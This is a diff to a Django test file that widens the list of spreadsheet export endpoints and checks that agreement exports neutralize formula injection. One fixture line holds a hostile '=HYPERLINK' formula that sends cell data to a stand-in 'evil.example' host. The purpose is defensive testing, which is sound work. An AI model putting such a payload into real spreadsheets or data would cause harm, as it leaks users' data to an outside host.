@@ -24,7 +24,33 @@ from ..test_url_policy import all_patterns, sample_objects, students_samples, ur
 ROOT = Path(settings.BASE_DIR)
 SPREADSHEET_TYPES = ("text/csv", "application/vnd.openxmlformats", "application/vnd.ms-excel")
 # Every URL that answers with a spreadsheet, and the formats it offers.
-EXPORTS = {"agreements:agreement_export": ("csv", "xlsx")}
+EXPORTS = {
+    name: ("csv", "xlsx")
+    for name in (
+        "agreements:agreement_export",
+        "agreements:agreement_list_export",
+        "agreements:institution_list_export",
+        "students:application_list_export",
+        "exchanges:mobility_list_export",
+        "exchanges:course_list_export",
+        "exchanges:course_applicants_export",
+        "exchanges:delegation_list_export",
+        "mentoring:pairing_list_export",
+        "mentoring:mentor_list_export",
+        "mentoring:mentee_list_export",
+        "incentives:certificate_list_export",
+        "incentives:claim_list_export",
+        "research:project_list_export",
+        "research:scientist_list_export",
+        "research:alumni_list_export",
+    )
+}
+# The exports whose rows show an agreement's title (the hostile cells below);
+# tests/intlaffairs/test_list_exports.py checks the others' cells through the shared writer.
+AGREEMENT_EXPORTS = (
+    "agreements:agreement_export",
+    "agreements:agreement_list_export",
+)
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
 
@@ -37,10 +63,11 @@ def project_files(pattern: str):
 
 
 def cells(response) -> list[str]:
+    body = b"".join(response.streaming_content) if response.streaming else response.content
     if response["Content-Type"].startswith("text/csv"):
-        rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
+        rows = csv.reader(io.StringIO(body.decode("utf-8-sig")))
         return [value for row in rows for value in row]
-    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
+    workbook = openpyxl.load_workbook(io.BytesIO(body))
     return [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row]
 
 
@@ -60,7 +87,7 @@ def test_every_spreadsheet_the_portal_answers_with_is_a_known_export(client, adm
 
 
 @pytest.mark.parametrize(
-    ("export", "file_format"), [(name, f) for name, formats in EXPORTS.items() for f in formats]
+    ("export", "file_format"), [(name, f) for name in AGREEMENT_EXPORTS for f in EXPORTS[name]]
 )
 @pytest.mark.parametrize("start", FORMULA_STARTS)
 def test_exports_neutralize_every_formula_start(client, officer, export, file_format, start):
